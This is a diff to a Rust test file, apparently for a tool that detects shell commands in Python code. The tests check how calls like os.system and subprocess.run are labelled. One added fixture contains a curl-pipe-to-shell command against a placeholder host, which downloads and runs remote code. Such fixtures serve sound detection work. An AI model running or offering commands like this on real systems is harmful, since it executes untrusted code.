@@ -164,14 +164,21 @@ fn registry_keys() {
 
 #[test]
 fn commands() {
-    check("import os\nos.system('chmod +x /tmp/x')\n", &["command chmod module resolved 2", "command chmod +x module resolved 2"], &[]);
+    check("import os\nos.system('chmod +x /tmp/x')\n", &["command chmod +x module resolved 2"], &[]);
     check("import os\nos.system(f'chmod +x {p}')\n", &["command chmod +x module folded 2"], &[]);
     check("import os\nos.system('chmod %s %s' % (m, p))\n", &["command chmod module folded 2"], &["command chmod %"]);
+    check(
+        "import os\nos.system('cd x && curl -s https://a.example | sh')\n",
+        &["command curl -s module resolved 2", "command sh module resolved 2"],
+        &[],
+    );
+    check("import os\nos.system(program + ' -x')\n", &[], &["command"]);
     check(
         "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', x])\n",
         &["command python -m pip module resolved 2"],
         &[],
     );
+    check("import subprocess\nsubprocess.run(['bash', '-c', 'chmod +x /y'])\n", &["command chmod +x module resolved 2"], &[]);
     check("import subprocess\ncmd = ['reg', 'add', k]\nsubprocess.call(cmd)\n", &["command reg add module resolved 3"], &[]);
     check("import subprocess\ncmd = ['git'] + ['log', x]\nsubprocess.call(cmd)\n", &["command git log module resolved 3"], &[]);
     check("import os\nos.execvp('ls', ['ls', '-l'])\n", &["command ls -l module resolved 2"], &[]);
